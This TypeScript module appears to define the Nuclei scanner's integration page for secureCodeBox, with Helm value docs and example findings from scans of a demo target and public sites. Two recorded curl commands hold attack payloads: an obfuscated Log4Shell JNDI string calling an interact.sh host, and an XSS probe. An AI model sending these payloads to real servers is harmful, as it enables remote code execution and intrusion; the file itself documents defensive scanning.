import chart from '../generated/scanners/nuclei';
import {combineExamples, combineValues, scannerFacts} from '../combine';
import {SCANNER_VALUE_DOCS, helmInstall} from '../common';
import type {ScannerIntegration} from '../types';

/** Nuclei: chart `nuclei`. */
const nuclei: ScannerIntegration = {
  name: 'Nuclei',
  slug: 'nuclei',
  kind: 'scanner',
  category: 'Website',
  usecase: 'Runs fast, template-based vulnerability checks against targets.',
  description:
    'Run Nuclei in Kubernetes with secureCodeBox to check websites and services against thousands of community templates, with a shared template cache.',
  state: 'released',
  upstream: {name: 'Nuclei', url: 'https://nuclei.projectdiscovery.io/'},
  ...scannerFacts(chart, helmInstall),
  values: combineValues(
    chart,
    {
      'nucleiTemplateCache.enabled':
        'Keeps the Nuclei templates in a PersistentVolume that a Job fills at install time and a CronJob refreshes, so that scans do not download them from GitHub each time. Both jobs run the scanner image with the `scanner` resources, env, securityContext, extra volumes, mounts and containers.',
      'nucleiTemplateCache.accessMode': {
        description: 'Access modes of the cache volume. Use `ReadWriteMany` when scans run on several nodes.',
        default: '["ReadWriteOnce","ReadOnlyMany"]',
      },
      'nucleiTemplateCache.schedule':
        'Cron schedule of the template update job; the default runs it every hour, and an empty value falls back to daily at 08:00.',
      'nucleiTemplateCache.successfulJobsHistoryLimit': 'How many finished update jobs Kubernetes keeps.',
      'nucleiTemplateCache.failedJobsHistoryLimit': 'How many failed update jobs Kubernetes keeps.',
      'nucleiTemplateCache.concurrencyPolicy':
        'What happens when an update job is due while the previous one still runs.',
      imagePullSecrets:
        'Secrets Kubernetes uses to pull the parser and scanner images from a private registry. The template cache jobs (`nucleiTemplateCache.enabled`) do not get them, so they pull the Nuclei image without them.',
      'scanner.image.repository': 'Image that runs Nuclei: the official ProjectDiscovery image.',
    },
    SCANNER_VALUE_DOCS,
  ),
  examples: combineExamples(chart, {
    bodgeit: {
      description:
        'Scans the BodgeIt Store demo target in the cluster with verbose and debug output and without the out-of-band interaction server (`-no-interactsh`).',
      findings: [
        {
          name: 'HTTP Missing Security Headers',
          description:
            'This template searches for missing HTTP security headers. The impact of these missing headers can vary.\n',
          category: 'http-missing-security-headers',
          severity: 'INFORMATIONAL',
          location: 'http://bodgeit.demo-targets.svc.cluster.local:8080',
          attributes: {
            ip_addresses: ['10.96.163.66'],
            type: 'http',
            hostname: 'bodgeit.demo-targets.svc.cluster.local',
            path: null,
            tags: ['misconfig', 'generic'],
            reference: null,
            author: ['socketz', 'geeknik', 'g4l1t0', 'convisoappsec', 'kurohost', 'dawid-czarnecki', 'forgedhallpass'],
            metadata: null,
            timestamp: '2022-10-27T13:55:01.378229Z',
            matcher_status: true,
            matcher_name: 'x-permitted-cross-domain-policies',
            matched_at: 'http://bodgeit.demo-targets.svc.cluster.local:8080',
            matched_line: null,
            extracted_results: null,
            template_id: 'http-missing-security-headers',
            request: null,
            response: null,
            curl_command:
              "curl -X 'GET' -d '' -H 'Accept: */*' -H 'Accept-Language: en' -H 'User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2227.0 Safari/537.36' 'http://bodgeit.demo-targets.svc.cluster.local:8080'",
          },
          id: 'dd4b218f-6f4a-43fe-8a85-8dc12b5cb8dd',
          parsed_at: '2022-10-27T13:56:06.629Z',
        },
        {
          name: 'WAF Detection',
          description: 'A web application firewall was detected.',
          category: 'waf-detect',
          severity: 'INFORMATIONAL',
          location: 'http://bodgeit.demo-targets.svc.cluster.local:8080',
          attributes: {
            ip_addresses: ['10.96.163.66'],
            type: 'http',
            hostname: 'bodgeit.demo-targets.svc.cluster.local',
            path: null,
            tags: ['waf', 'tech', 'misc'],
            reference: ['https://github.com/ekultek/whatwaf'],
            author: ['dwisiswant0', 'lu4nx'],
            metadata: null,
            timestamp: '2022-10-27T13:55:27.598078Z',
            matcher_status: true,
            matcher_name: 'ats',
            matched_at: 'http://bodgeit.demo-targets.svc.cluster.local:8080/',
            matched_line: null,
            extracted_results: null,
            template_id: 'waf-detect',
            request: null,
            response: null,
            curl_command:
              "curl -X 'POST' -d '_=<script>alert(1)</script>' -H 'Content-Type: application/x-www-form-urlencoded' -H 'Host: bodgeit.demo-targets.svc.cluster.local:8080' -H 'User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/35.0.1916.47 Safari/537.36' 'http://bodgeit.demo-targets.svc.cluster.local:8080/'",
          },
          id: 'b5dc79cc-821d-44db-927c-6a1e04e65b01',
          parsed_at: '2022-10-27T13:56:06.630Z',
        },
        {
          name: 'Tomcat exposed docs',
          description: 'The name of the nuclei rule which triggered the finding: tomcat-exposed-docs',
          location: 'http://bodgeit.demo-targets.svc.cluster.local:8080',
          severity: 'INFORMATIONAL',
          category: 'tomcat-exposed-docs',
          attributes: {
            ip_addresses: ['10.96.163.66'],
            type: 'http',
            hostname: 'bodgeit.demo-targets.svc.cluster.local',
            path: null,
            tags: ['version', 'tomcat', 'docs'],
            reference: null,
            author: ['podalirius'],
            metadata: {
              'shodan-query': 'title:"Apache Tomcat"',
            },
            timestamp: '2022-10-27T13:54:59.4860876Z',
            matcher_status: true,
            matcher_name: 'word-1',
            matched_at: 'http://bodgeit.demo-targets.svc.cluster.local:8080/docs/',
            matched_line: null,
            extracted_results: ['Version 8.5.28,'],
            template_id: 'tomcat-exposed-docs',
            request: null,
            response: null,
            curl_command:
              "curl -X 'GET' -d '' -H 'Accept: */*' -H 'Accept-Language: en' -H 'User-Agent: Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.114 Safari/537.36' 'http://bodgeit.demo-targets.svc.cluster.local:8080/docs/'",
          },
          id: '637855f7-2ed8-461a-8a17-d7bd13b180cd',
          parsed_at: '2022-10-27T13:56:06.629Z',
        },
        {
          name: 'Tomcat Detection',
          description:
            'If an Tomcat instance is deployed on the target URL, when we send a request for a non existent resource we receive a Tomcat error page with version.',
          location: 'http://bodgeit.demo-targets.svc.cluster.local:8080',
          severity: 'INFORMATIONAL',
          category: 'tomcat-detect',
          attributes: {
            ip_addresses: ['10.96.163.66'],
            type: 'http',
            hostname: 'bodgeit.demo-targets.svc.cluster.local',
            path: null,
            tags: ['tech', 'tomcat', 'apache'],
            reference: null,
            author: ['philippedelteil', 'dhiyaneshdk'],
            metadata: {
              'shodan-query': 'title:"Apache Tomcat"',
            },
            timestamp: '2022-10-27T13:55:20.4066623Z',
            matcher_status: true,
            matcher_name: 'dsl-2',
            matched_at: 'http://bodgeit.demo-targets.svc.cluster.local:8080',
            matched_line: null,
            extracted_results: ['8.5.28'],
            template_id: 'tomcat-detect',
            request: null,
            response: null,
            curl_command:
              "curl -X 'GET' -d '' -H 'Accept: */*' -H 'Accept-Language: en' -H 'User-Agent: Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/35.0.2117.157 Safari/537.36' 'http://bodgeit.demo-targets.svc.cluster.local:8080'",
          },
          id: '657bb944-16cb-4758-aa0e-b4a7b23cf203',
          parsed_at: '2022-10-27T13:56:06.630Z',
        },
      ],
    },
    'example.com': {
      description:
        'Runs the default templates against `https://example.com`. The `CVE-2021-44228` finding comes from the parser’s test scan of a server vulnerable to Log4Shell.',
      findings: [
        {
          name: 'Remote code injection in Log4j',
          description:
            'Apache Log4j2 <=2.14.1 JNDI features used in configuration, log messages, and parameters do not protect against attacker controlled LDAP and other JNDI related endpoints. An attacker who can control log messages or log message parameters can execute arbitrary code loaded from LDAP servers when message lookup substitution is enabled.',
          category: 'CVE-2021-44228',
          severity: 'HIGH',
          location: 'http://10.1.6.107:8080',
          references: [
            {
              type: 'URL',
              value: 'https://github.com/advisories/ghsa-jfh8-c2jp-5v3q',
            },
            {
              type: 'URL',
              value: 'https://www.lunasec.io/docs/blog/log4j-zero-day/',
            },
            {
              type: 'URL',
              value: 'https://gist.github.com/bugbountynights/dde69038573db1c12705edb39f9a704a',
            },
          ],
          attributes: {
            ip_addresses: ['10.1.6.107'],
            type: 'http',
            hostname: '10.1.6.107',
            path: null,
            tags: ['cve', 'cve2021', 'rce', 'oast', 'log4j'],
            reference: [
              'https://github.com/advisories/ghsa-jfh8-c2jp-5v3q',
              'https://www.lunasec.io/docs/blog/log4j-zero-day/',
              'https://gist.github.com/bugbountynights/dde69038573db1c12705edb39f9a704a',
            ],
            author: ['melbadry9', 'dhiyaneshdk', 'daffainfo', 'j12934'],
            metadata: null,
            timestamp: '2021-12-21T15:36:21.9627479Z',
            matcher_status: true,
            matcher_name: null,
            matched_at: 'http://10.1.6.107:8080/',
            matched_line: null,
            extracted_results: ['vuln-log4j-vulnerable-log4j-74bbf59745-h2kqj'],
            template_id: 'CVE-2021-44228',
            request: null,
            response: null,
            curl_command:
              "curl -X 'GET' -d '' -H 'Host: 10.1.6.107:8080' -H 'User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/36.0.1985.67 Safari/537.36' -H 'X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://${hostName}.c70v8s2ukqds73d3ve90c8y9eheyyyyyc.interact.sh}' 'http://10.1.6.107:8080/'",
          },
          identified_at: '2021-12-21T15:36:21.962Z',
        },
        {
          name: 'TLS Version',
          description: 'The name of the nuclei rule which triggered the finding: tls-version',
          location: 'https://example.com',
          severity: 'INFORMATIONAL',
          category: 'tls-version',
          attributes: {
            ip_addresses: ['93.184.216.34'],
            type: 'ssl',
            hostname: 'example.com',
            path: null,
            tags: ['ssl'],
            reference: null,
            author: ['pdteam'],
            metadata: null,
            timestamp: '2022-09-09T21:21:04.604798+02:00',
            matcher_status: true,
            matcher_name: null,
            matched_at: 'https://example.com',
            matched_line: null,
            extracted_results: ['TLS13'],
            template: 'ssl/tls-version.yaml',
            template_url: 'https://github.com/projectdiscovery/nuclei-templates/blob/master/ssl/tls-version.yaml',
            template_id: 'tls-version',
            request: null,
            response: null,
            curl_command: null,
          },
        },
      ],
      totalFindings: null,
    },
    'secureCodeBox.io': {
      description: 'Runs the default templates against the secureCodeBox website.',
      findings: [
        {
          name: 'Metatag CMS Detection',
          description: 'Generic CMS Detection using html meta generator tag',
          location: 'https://www.securecodebox.io',
          severity: 'INFORMATIONAL',
          category: 'metatag-cms',
          attributes: {
            ip_addresses: ['34.159.58.69'],
            type: 'http',
            hostname: 'www.securecodebox.io',
            path: null,
            tags: ['tech', 'cms'],
            reference: ['https://www.w3schools.com/tags/att_meta_name.asp'],
            author: ['dadevel'],
            metadata: null,
            timestamp: '2022-09-09T21:26:28.511351+02:00',
            matcher_status: true,
            matcher_name: null,
            matched_at: 'https://www.securecodebox.io',
            matched_line: null,
            extracted_results: ['Docusaurus v2.0.1'],
            template: 'technologies/metatag-cms.yaml',
            template_url:
              'https://github.com/projectdiscovery/nuclei-templates/blob/master/technologies/metatag-cms.yaml',
            template_id: 'metatag-cms',
            request: null,
            response: null,
            curl_command:
              "curl -X 'GET' -d '' -H 'Accept: */*' -H 'Accept-Language: en' -H 'User-Agent: Mozilla/5.0 (Windows NT 6.2; WOW64) AppleWebKit/537.36 (KHTML like Gecko) Chrome/44.0.2403.155 Safari/537.36' 'https://www.securecodebox.io'",
          },
        },
      ],
    },
  }),
  links: [
    {label: 'Nuclei on GitHub', url: 'https://github.com/projectdiscovery/nuclei'},
    {label: 'Getting started with Nuclei', url: 'https://nuclei.projectdiscovery.io/nuclei/get-started/'},
  ],
};

export default nuclei;
